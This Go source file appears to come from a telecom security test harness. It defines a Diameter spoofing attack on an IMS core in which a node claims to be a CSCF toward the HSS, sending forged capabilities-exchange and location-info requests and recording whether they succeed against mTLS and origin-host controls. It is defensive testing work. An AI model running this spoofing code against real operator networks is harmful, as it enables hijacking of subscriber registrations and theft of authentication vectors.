package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/netip"
	"time"

	"imsafe/proto/diameter"
	"imsafe/secure"
)

// diameterSpoof: somebody on the inner network says that he is a CSCF.
func diameterSpoof() Attack {
	return Attack{
		ID: "core.diameter.spoof", Number: "CX-01", Title: "a Diameter peer that is not who it says",
		Text:     "whoever the HSS takes for a CSCF asks it for vectors and moves registrations",
		Services: []Service{Authentication}, Stride: Spoofing, Threats: []Threat{Removal}, Module: InfrastructureControl,
		Source: "RFC 6733 13.1; TS 33.210 5.3", Access: []Access{Cx},
		Bounds: Bounds{Packets: 60, Bytes: 60_000, Conns: 5, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "nocert", Position: Platform, Controls: []secure.ControlID{secure.CoreAuthenticationMTLS},
				Run: func(ctx context.Context, f *Field, o *Outcome) error { return saysIsCSCF(ctx, f, o, nil) }},
			{Name: "mismatch", Position: CoreNode, Controls: []secure.ControlID{secure.CoreAuthenticationOriginHost},
				Run: func(ctx context.Context, f *Field, o *Outcome) error {
					return saysIsCSCF(ctx, f, o, []tls.Certificate{f.Node})
				}},
			{Name: "request", Position: CoreNode, Controls: []secure.ControlID{secure.CoreAuthenticationOriginHost}, Run: asksAsAnother},
		},
	}
}

// saysIsCSCF exchanges capabilities in the name of the CSCF, with a certificate that is not the CSCF's, or none.
func saysIsCSCF(ctx context.Context, f *Field, o *Outcome, certificates []tls.Certificate) error {
	const times = 5
	believed, last := 0, "closes the connection"
	for range times {
		conn, err := f.attacker.Dial(ctx, "tcp", netip.Addr{}, f.Cx)
		if err != nil {
			return err
		}
		secured := tls.Client(conn, &tls.Config{MinVersion: tls.VersionTLS13, RootCAs: f.Roots, ServerName: "hss." + f.Domain, Certificates: certificates,
			Time: f.Clock.Wall})
		result, err := f.capabilities(ctx, secured)
		_ = secured.Close() // the other end has done so, or will
		if err != nil {
			return err
		}
		switch {
		case result == diameter.ResultSuccess:
			believed++
			last = "answers with success"
		case result != 0:
			last = "answers with " + result.String()
		}
	}
	o.Users = min(believed, 1)
	o.Wire(believed > 0, "%d of %d capabilities exchanges in the CSCF's name succeed, to the last the HSS %s", believed, times, last)
	return nil
}

// capabilities sends a CER of the CSCF and returns the result in the answer; 0 if the connection is closed instead.
func (f *Field) capabilities(ctx context.Context, conn *tls.Conn) (diameter.Result, error) {
	if err := conn.HandshakeContext(ctx); err != nil {
		return 0, err
	}
	w := diameter.Begin(nil, diameter.Header{Flags: diameter.FlagRequest, Command: diameter.CER, HopByHop: 1, EndToEnd: 1})
	w.Text(diameter.OriginHost, "cscf."+f.Domain)
	w.Text(diameter.OriginRealm, f.Domain)
	w.Address(diameter.HostIPAddress, f.Cx.Addr())
	w.Unsigned32(diameter.VendorID, 0)
	w.Text(diameter.ProductName, "cscf")
	w.Open(diameter.VendorSpecificApplicationID)
	w.Unsigned32(diameter.VendorID, diameter.Vendor3GPP)
	w.Unsigned32(diameter.AuthApplicationID, uint32(diameter.AppCx))
	w.Close()
	request, err := w.End()
	if err != nil {
		return 0, err
	}
	endsWith(ctx, conn)
	if _, err := conn.Write(request); err != nil {
		return 0, ended(err)
	}
	answer := make([]byte, diameter.HeaderLen, 4096)
	if _, err := io.ReadFull(conn, answer); err != nil {
		return 0, ended(err)
	}
	n, err := diameter.Length(answer, cap(answer))
	if err != nil {
		return 0, err
	}
	answer = answer[:n]
	if _, err := io.ReadFull(conn, answer[diameter.HeaderLen:]); err != nil {
		return 0, ended(err)
	}
	m, err := diameter.Parse(answer)
	if err != nil {
		return 0, err
	}
	code, _ := m.AVPs().Find(diameter.ResultCode)
	v, _ := code.Unsigned32()
	return diameter.Result(v), nil
}

// ended makes nothing of the errors by which a peer closes a connection; silence stays one.
func ended(err error) error {
	var late net.Error
	if errors.As(err, &late) && late.Timeout() {
		return err
	}
	return nil
}

// asksAsAnother exchanges capabilities in its own name, and then asks in the CSCF's: what is pushed to an S-CSCF later goes where its requests came from.
func asksAsAnother(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.interrogating(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	if _, err := line.servedBy(f.Users[Alice]); err != nil {
		return err
	}
	line.host = "cscf." + f.Domain
	const times = 5
	var requests []*diameter.Writer
	for range times {
		w := line.begin(diameter.LIR, diameter.AppCx, diameter.FlagProxiable)
		w.Text(diameter.DestinationRealm, f.Domain)
		w.Text(diameter.PublicIdentity, f.Users[Alice].IMPU)
		requests = append(requests, &w)
	}
	answers, err := line.ask(requests...)
	if err != nil {
		return err
	}
	taken := 0
	for _, a := range answers {
		if a.result == uint32(diameter.ResultSuccess) {
			taken++
		}
	}
	o.Arrived("in its own name the node is answered")
	o.Users = min(taken, 1)
	o.Wire(taken > 0, "%d requests of one node in the name of another are answered %s", times, answered(answers))
	return nil
}
